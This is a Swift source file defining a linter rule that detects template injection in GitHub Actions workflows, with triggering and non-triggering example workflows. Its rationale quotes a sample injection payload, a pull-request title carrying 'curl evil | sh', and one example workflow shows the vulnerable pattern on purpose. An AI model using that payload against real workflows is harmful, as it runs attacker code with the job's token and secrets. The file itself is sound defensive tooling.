import WorkflowModel

/// Untrusted event fields expanded into a shell script or a github-script body run as code.
struct TemplateInjectionRule: Rule {
    let description = RuleDescription(
        id: "template-injection",
        summary: "Untrusted event fields (titles, bodies, branch names, commit messages) expanded into `run:` or github-script `script:`.",
        rationale: "`${{ }}` is pasted into the script before it runs: a pull-request title such as `\"; curl evil | sh; \"` becomes code with the job's token and secrets. Pass the value through `env:` and quote the variable.",
        triggering: [
            Example("""
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "${{ ↓github.event.issue.title }}"
                  - uses: actions/github-script@v7
                    with:
                      script: console.log("${{ ↓github.head_ref }}")
            """),
        ],
        nonTriggering: [
            Example("""
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "$TITLE" ${{ github.event.issue.number }}
                    env:
                      TITLE: ${{ github.event.issue.title }}
            """),
        ]
    )

    func check(_ workflow: Workflow, context: LintContext) -> [Finding] {
        var scripts: Set<SourcePosition> = []
        for job in workflow.jobs {
            for step in job.steps {
                if let run = step.run { scripts.insert(run.position) }
                if let uses = step.uses.flatMap({ SecurityFacts.actionReference($0.text) }), uses.name == "actions/github-script",
                   let script = SecurityFacts.with(step, "script")?.string {
                    scripts.insert(script.position)
                }
            }
        }
        return ExpressionAnalysis.of(workflow).expressions.compactMap { checked in
            guard scripts.contains(checked.value.position), let expression = checked.expression,
                  let field = SecurityFacts.untrustedField(in: expression) else { return nil }
            return Finding("\(field) is controlled by outsiders and is expanded into a script: pass it through env: (e.g. VALUE: ${{ \(field) }}) and use \"$VALUE\"",
                           at: checked.position(expression.start))
        }
    }
}
